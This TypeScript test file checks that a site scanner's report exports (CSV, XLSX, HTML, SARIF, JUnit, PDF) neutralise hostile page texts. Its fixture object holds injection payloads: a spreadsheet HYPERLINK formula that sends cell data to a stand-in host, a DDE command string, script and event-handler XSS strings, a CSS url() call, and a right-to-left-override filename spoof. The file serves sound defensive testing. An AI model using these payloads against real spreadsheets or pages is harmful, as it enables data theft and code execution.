// Reports of a scan whose texts try to break out: each format stays inert, valid and complete.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { sarifFaults } from '@orbweaver/exports/testing/sarif-schema.ts';
import { sourcesOfCheck } from '@orbweaver/model/check-sources.ts';
import { findChromium } from '@orbweaver/platform/node/chromium-pdf.ts';
import { openDatabase } from '@orbweaver/platform/node/sqlite.ts';
import { exampleDescription, exampleHeading, exampleTitle } from '@orbweaver/store/testing/example-facts.ts';
import { ExampleScan } from '@orbweaver/store/testing/example-scan.ts';
import ExcelJs from 'exceljs';
import { parse } from 'parse5';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { officialSarifFaults } from '../testing/official-sarif-schema.ts';
import { runHere } from '../testing/run-here.ts';

const hostile = {
  formula: '=HYPERLINK("http://evil.test/?"&A1,"click")',
  formulaWide: '＝1+1',
  command: "@SUM(1+1)*cmd|' /C calc'!A0",
  script: '</script><script>alert(1)</script>',
  comment: '--><img src=x onerror=alert(1)>',
  attribute: '" onmouseover="alert(1)" x="',
  cdata: ']]><boom/>',
  entity: '&lt;b&gt; &#0; &bogus;',
  style: '</style><style>*{background:url(http://evil.test/)}',
  override: 'safe \u202egnp.exe\u202c \u2066hidden\u2069',
  surrogate: 'lone \ud800 and \udc00 end',
  controls: 'nul \u0000 bell \u0007 escape \u001b[31m',
  template: '{count} {value} {{x}} $(x)',
  huge: `start ${'x'.repeat(1_000_000)} end`,
} as const;
const names = Object.keys(hostile) as (keyof typeof hostile)[];
const address = (name: string) => `http://site.test/${name}?q=<b>"'&x=%zz[1]`;

let folder = '';
const run = (...args: string[]) => runHere(folder, 'report', 'hostile.scan', ...args);

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'orbweaver-report-'));
  const database = openDatabase(join(folder, 'hostile.scan'), 'create');
  const scan = new ExampleScan(database);
  for (const name of names) {
    const text = hostile[name];
    scan.add(address(name), {
      depth: 1,
      facts: { titles: [exampleTitle(text)], metas: [exampleDescription(text)], headings: [exampleHeading(1, text)] },
    });
    const value = text.slice(0, 300);
    const evidence = { value, target: `javascript:${value}`, header: value, rule: value, line: 3, offset: 40, limit: 5, count: 2 };
    scan.issues({
      urlId: scan.id(address(name)),
      check: 'title-too-long',
      severity: 'warning',
      evidence: JSON.stringify(evidence),
      group: value,
    });
  }
  scan.issues(
    { urlId: 0, check: 'a-check-of-a-newer-version', severity: 'error', evidence: '{"value":"<script>"}', group: null },
    { urlId: scan.id(address('script')), check: 'description-missing', severity: 'notice', evidence: '{}', group: null },
  );
  scan.outcome({ check: 'title-missing', passed: 3, failed: 0, notApplicable: 0, notTested: 0, reason: null });
  scan.outcome({ check: 'answer-slow', passed: 0, failed: 0, notApplicable: 0, notTested: 3, reason: 'no <time>' });
  const options = { startUrl: 'http://site.test/<script>', mode: 'site' };
  for (const [key, value] of Object.entries({ options: JSON.stringify(options), state: 'complete', startedAt: '2026-11-20T10:00:00.000Z' }))
    scan.writer.setMeta(key, value);
  scan.finish();
  database.close();
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

test('json: every text whole, but for lone surrogates', async () => {
  const entries = JSON.parse((await run('--format', 'json')).out) as { type: string; url: string; facts: { titles: { text: string }[] } }[];
  const pages = entries.filter(({ type, facts }) => type === 'url' && facts !== null);
  expect(new Set(pages.map(({ facts }) => facts.titles[0]?.text.toWellFormed()))).toEqual(
    new Set(names.map((name) => hostile[name].toWellFormed())),
  );
});

test('csv: no cell is a formula, every text whole', async () => {
  const { out } = await run('--format', 'csv', '--dataset', 'pages');
  const rows = readCsv(out);
  const title = rows[0]?.indexOf('title') ?? -1;
  const titles = new Set(rows.slice(1).map((row) => row[title]));
  for (const name of names) {
    const text = hostile[name].toWellFormed();
    expect(titles.has(text) || titles.has(`'${text}`), name).toBe(true);
  }
  for (const cell of rows.flat()) expect(/^[=+\-@\t\r＝＋－＠]/.test(cell ?? '') && !/^-?\d/.test(cell ?? '')).toBe(false);
});

test('xlsx: texts, never formulas; what Excel cannot hold is cut visibly', async () => {
  await run('--format', 'xlsx', '--out', 'r.xlsx');
  const book = new ExcelJs.Workbook();
  await book.xlsx.readFile(join(folder, 'r.xlsx'));
  const titles: string[] = [];
  book.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.formula ?? null).toBeNull();
        if (typeof cell.value === 'string') titles.push(cell.value);
      }),
    ),
  );
  expect(titles).toContain(hostile.formula);
  expect(titles).toContain(hostile.script);
  expect(titles.some((text) => text.startsWith('start xxx') && text.endsWith('…'))).toBe(true);
});

const peopleBooks = [
  {
    lang: 'en',
    sheets: ['Summary', 'What to fix', 'Title'],
    address: 'URL',
    warning: 'Warning',
    rows: ['Date of the scan', 'Pages', 'Score', 'Fix these first'],
    date: 'November 20, 2026',
    reasons: ['Why', 'Fix'],
  },
  {
    lang: 'de',
    sheets: ['Übersicht', 'Zu beheben', 'Titel'],
    address: 'URL',
    warning: 'Warnung',
    rows: ['Datum des Scans', 'Seiten', 'Punktzahl', 'Das zuerst beheben'],
    date: '20. November 2026',
    reasons: ['Warum', 'Lösung'],
  },
  {
    lang: 'ar',
    sheets: ['ملخص', 'ما يجب إصلاحه', 'عنوان الصفحة'],
    address: 'عنوان URL',
    warning: 'تحذير',
    rows: ['تاريخ الفحص', 'الصفحات', 'الدرجة', 'ابدأ بإصلاح هذه'],
    date: '20 نوفمبر 2026',
    reasons: ['السبب', 'الحل'],
  },
];

test.each(peopleBooks)(
  'xlsx for people in $lang: summary, issues with reason and fix, views with names',
  async ({ lang, sheets, address, warning, rows, date, reasons }) => {
    const book = await readPeopleBook('hostile.scan', lang);
    expect(book.worksheets.slice(0, 2).map(({ name }) => name)).toEqual(sheets.slice(0, 2));
    const [summary, issues, titles] = sheets.map((name) => book.getWorksheet(name) as ExcelJs.Worksheet);
    expect(String(summary?.getCell('A1').value)).toContain('site.test');
    const told = rowsOf(summary);
    const [dateRow, pageRow, scoreRow, fixRow] = rows.map((name) => told.findIndex(([first]) => first === name));
    expect(told[dateRow ?? -1]?.[1]).toBe(date);
    expect(told[pageRow ?? -1]?.[1]).toBe(names.length);
    expect(told[scoreRow ?? -1]?.[1]).toEqual(expect.any(Number));
    // Of what to fix first: what, where and how.
    expect(fixRow).toBeGreaterThan(0);
    const task = [expect.stringMatching(/ /), expect.stringMatching(/\d/), expect.stringMatching(/ \S+ /)];
    expect(told.slice(fixRow)).toContainEqual(task);
    const [heads, ...listed] = rowsOf(issues);
    expect(listed.map(([severity]) => severity)).toContain(warning);
    expect(listed.some(([, words]) => / /.test(String(words)))).toBe(true);
    // A check that this version does not know has neither.
    const known = listed.filter((row) => row.at(-1) !== 'a-check-of-a-newer-version');
    expect(known.length).toBeGreaterThan(1);
    const [why, fix] = reasons.map((name) => heads?.indexOf(name) ?? -1);
    for (const row of known) {
      for (const cell of [row[why ?? -1], row[fix ?? -1]]) expect(cell).toMatch(/ \S+ \S+ /);
      expect(row[why ?? -1]).not.toBe(row[fix ?? -1]);
    }
    expect(titles?.getCell('A1').value).toBe(address);
    expect(titles?.views[0]?.rightToLeft ?? false).toBe(lang === 'ar');
    book.eachSheet((sheet) => sheet.getRow(1).eachCell((cell) => expect(String(cell.value)).not.toMatch(/^[a-z]+[A-Z_]/)));
  },
);

test('the first sheet tells that a scan was stopped, and the limit that it had', async () => {
  const summary = async (file: string) => rowsOf((await readPeopleBook(file, 'en')).worksheets[0]);
  const words = (rows: ExcelJs.CellValue[][]) => rows.map(([first]) => first);
  const [stopped, limited] = [/^The scan was stopped before it finished/, /^The scan was limited to 7 pages; the site has more/];
  const whole = words(await summary('hostile.scan'));
  for (const line of [stopped, limited]) expect(whole).not.toContainEqual(expect.stringMatching(line));
  const database = openDatabase(join(folder, 'cut.scan'), 'create');
  const scan = new ExampleScan(database);
  scan.add(address('a'), { depth: 0, facts: {} });
  scan.add(address('b'), { notFetched: 'limit' });
  const options = { startUrl: 'http://site.test/', mode: 'site', maxPages: 7 };
  for (const [key, value] of Object.entries({ options: JSON.stringify(options), state: 'stopped', startedAt: '2026-11-20T10:00:00.000Z' }))
    scan.writer.setMeta(key, value);
  scan.finish();
  database.close();
  const cut = await summary('cut.scan');
  for (const line of [stopped, limited]) expect(words(cut)).toContainEqual(expect.stringMatching(line));
  for (const row of [
    ['Pages', 1],
    ['Known URLs', 2],
  ])
    expect(cut).toContainEqual(row);
});

test('csv for people: a file for each view, in words', async () => {
  await run('--format', 'csv', '--out', 'people');
  const [header, first] = readCsv(readFileSync(join(folder, 'people', 'title.csv'), 'utf8'));
  expect(header?.[0]).toBe('\ufeffURL');
  expect(header?.[2]).toBe('Finding');
  expect(first?.[2]).toMatch(/^(?:|Warning: .*)$/);
});

describe.each(['en', 'ar'])('html in %s', (lang) => {
  test('has no script, no handler, no outside address but links, and all findings', async () => {
    await run('--format', 'html', '--lang', lang, '--out', 'r.html');
    const html = readFileSync(join(folder, 'r.html'), 'utf8');
    const elements = elementsOf(parse(html));
    const allowed =
      'html head meta title style body main div span svg path circle h1 h2 h3 bdi p a b small ol ul li dl dt dd i table thead tbody tr th td section article header footer';
    const known = allowed.split(' ');
    expect(elements.filter(({ tagName }) => !known.includes(tagName))).toEqual([]);
    for (const { tagName, attrs } of elements) {
      for (const { name, value } of attrs) {
        expect(
          name.startsWith('on') || (['src', 'srcset', 'style'].includes(name) && !/^width:[\d.]+%$/.test(value)),
          `${tagName} ${name}`,
        ).toBe(false);
        if (name === 'href') expect(value).toMatch(/^(#[a-z-]+$|http:\/\/site\.test\/)/);
      }
    }
    expect(html).toContain(`default-src 'none'`);
    expect(html).not.toMatch(/url\(|@import|[\u202a-\u202e\u2066-\u2069]/);
    expect(html.isWellFormed()).toBe(true);
    expect(html).toContain('[U+202E]gnp.exe');
    expect(html).toContain(`lang="${lang === 'ar' ? 'ar" dir="rtl' : 'en-US" dir="ltr'}"`);
    // Ten examples of a check, and a sentence for the others.
    expect(elements.filter(({ tagName, attrs }) => tagName === 'a' && attrs.some(({ value }) => value.includes('site.test')))).toHaveLength(
      12,
    );
  });
});

test('sarif: valid, one result for each finding, and no text that turns', async () => {
  const { out } = await run('--format', 'sarif');
  const log = JSON.parse(out);
  expect(sarifFaults(log)).toEqual([]);
  expect(officialSarifFaults(log)).toEqual([]);
  expect(officialSarifFaults({ ...log, version: '2' })).not.toEqual([]);
  const { results, tool } = log.runs[0];
  const documents = tool.driver.rules.map(({ id, helpUri }: { id: string; helpUri?: string }) => [id, helpUri ?? null]);
  expect(documents).toEqual(documents.map(([id]: [string]) => [id, sourcesOfCheck(id).find(({ url }) => url !== null)?.url ?? null]));
  expect(JSON.stringify(documents)).toContain('https://');
  expect(results).toHaveLength(names.length + 2);
  expect(new Set(results.map((each: { partialFingerprints: object }) => JSON.stringify(each.partialFingerprints))).size).toBe(
    results.length,
  );
  expect(out).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
  expect(results[1].locations[0].physicalLocation).toMatchObject({ region: { startLine: 3, charOffset: 40 } });
});

test('sarif names what is ignored as suppressed', async () => {
  await runHere(folder, 'ignore', 'hostile.scan', '--check', 'description-missing', '--reason', 'agreed \u202e <b>');
  const log = JSON.parse((await run('--format', 'sarif')).out);
  await runHere(folder, 'ignore', 'hostile.scan', '--reopen', '1');
  expect(sarifFaults(log)).toEqual([]);
  expect(officialSarifFaults(log)).toEqual([]);
  const suppressed = log.runs[0].results.filter((each: { suppressions?: object }) => each.suppressions !== undefined);
  expect(suppressed).toMatchObject([{ ruleId: 'description-missing', suppressions: [{ justification: 'agreed [U+202E] <b>' }] }]);
});

test('the validator finds faults', () => {
  const log = (result: object) => ({
    version: '2.1.0',
    runs: [{ tool: { driver: { name: 'x', rules: [{ id: 'a' }] } }, results: [result] }],
  });
  const good = { ruleId: 'a', ruleIndex: 0, message: { text: 'x' } };
  expect(sarifFaults(log(good))).toEqual([]);
  for (const bad of [
    { message: { text: 'x' } },
    { ...good, level: 'notice' },
    { ...good, ruleIndex: 1 },
    { ...good, more: 1 },
    { ...good, message: { text: '\ud800' } },
  ])
    expect(sarifFaults(log(bad))).toHaveLength(1);
});

test('junit: well-formed, counts agree, every finding listed', async () => {
  const { out } = await run('--format', 'junit');
  const xml = readXml(out);
  expect(xml).toMatchObject({ name: 'testsuites', attributes: { tests: '5', failures: '2', errors: '0', skipped: '1' } });
  const cases = xml.children.flatMap(({ children }) => children);
  expect(cases.map(({ attributes, children }) => [attributes['name'], children[0]?.name ?? null])).toEqual(
    expect.arrayContaining([
      ['title-too-long', 'failure'],
      ['title-missing', null],
      ['answer-slow', 'skipped'],
      ['description-missing', 'system-out'],
      ['a-check-of-a-newer-version', 'failure'],
    ]),
  );
  const listed = cases.find(({ attributes }) => attributes['name'] === 'title-too-long')?.children[0]?.text ?? '';
  expect(listed.match(/^warning .*\(1 place\)\n {2}http:/gm)).toHaveLength(names.length);
  expect(listed).toContain('</script><script>alert(1)</script>');
});

test.skipIf(!hasChromium())('pdf through an installed browser', { timeout: 180_000 }, async () => {
  const { code, err } = await run('--format', 'pdf', '--lang', 'ar', '--out', 'r.pdf');
  expect(err).toContain('r.pdf');
  expect(code).toBe(0);
  const pdf = readFileSync(join(folder, 'r.pdf'));
  expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
  expect(pdf.includes('/JavaScript')).toBe(false);
});

test('without a browser a sentence says what to do', () => {
  expect(() => findChromium({ PATH: folder, ORBWEAVER_CHROMIUM: join(folder, 'none') })).toThrow('browser-missing');
});

test.each([
  [['--format', 'sarif', '--lang', 'ar'], '--lang works only with'],
  [['--format', 'html', '--dataset', 'pages'], '--dataset works only with'],
])('%j is a usage error', async (args, words) => {
  const { code, err } = await run(...args);
  expect(code).toBe(2);
  expect(err).toContain(words);
});

async function readPeopleBook(file: string, lang: string): Promise<ExcelJs.Workbook> {
  await runHere(folder, 'report', file, '--format', 'xlsx', '--lang', lang, '--out', 'people.xlsx');
  const book = new ExcelJs.Workbook();
  await book.xlsx.readFile(join(folder, 'people.xlsx'));
  return book;
}

/** Cells of each row from the first column on, the head included. */
function rowsOf(sheet: ExcelJs.Worksheet | undefined): ExcelJs.CellValue[][] {
  return (sheet?.getSheetValues() ?? []).slice(1).map((row) => (row as ExcelJs.CellValue[] | undefined)?.slice(1) ?? []);
}

function hasChromium(): boolean {
  try {
    return findChromium() !== '';
  } catch {
    return false;
  }
}

interface Element {
  readonly tagName: string;
  readonly attrs: readonly { readonly name: string; readonly value: string }[];
}

function elementsOf(node: object): Element[] {
  const own = 'tagName' in node ? [node as Element] : [];
  const children = 'childNodes' in node ? (node.childNodes as object[]) : [];
  return [...own, ...children.flatMap(elementsOf)];
}

/** RFC 4180. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)?.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  return rows;
}

interface XmlNode {
  readonly name: string;
  readonly attributes: Record<string, string>;
  readonly children: XmlNode[];
  text: string;
}

/** A strict reader of the XML that has no comments, sections or instructions; throws on anything else. */
function readXml(text: string): XmlNode {
  const root: XmlNode = { name: '', attributes: {}, children: [], text: '' };
  const stack = [root];
  const body = text.replace('<?xml version="1.0" encoding="UTF-8"?>\n', '');
  if (/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/.test(body) || !body.isWellFormed()) throw new Error('forbidden character');
  const plain = (raw: string) => {
    if (/&(?!(amp|lt|gt|quot|#13);)/.test(raw)) throw new Error(`bare & in ${raw}`);
    return raw.replace(/&(\w+|#13);/g, (_, name: string) => ({ amp: '&', lt: '<', gt: '>', quot: '"' })[name] ?? '\r');
  };
  let at = 0;
  for (const tag of body.matchAll(/<(\/?)([\w-]+)((?: [\w-]+="[^"<]*")*)(\/?)>/g)) {
    const before = body.slice(at, tag.index);
    if (before.includes('<')) throw new Error(`bare < in ${before}`);
    const open = stack.at(-1) as XmlNode;
    open.text += plain(before);
    at = tag.index + tag[0].length;
    if (tag[1] === '/') {
      if (stack.pop()?.name !== tag[2]) throw new Error(`unmatched ${tag[0]}`);
      continue;
    }
    const attributes = Object.fromEntries(
      Array.from((tag[3] ?? '').matchAll(/ ([\w-]+)="([^"]*)"/g), ([, name, value]) => [name ?? '', plain(value ?? '')]),
    );
    const node: XmlNode = { name: tag[2] ?? '', attributes, children: [], text: '' };
    open.children.push(node);
    if (tag[4] !== '/') stack.push(node);
  }
  if (stack.length !== 1 || body.slice(at).trim() !== '') throw new Error('not closed');
  return root.children[0] as XmlNode;
}
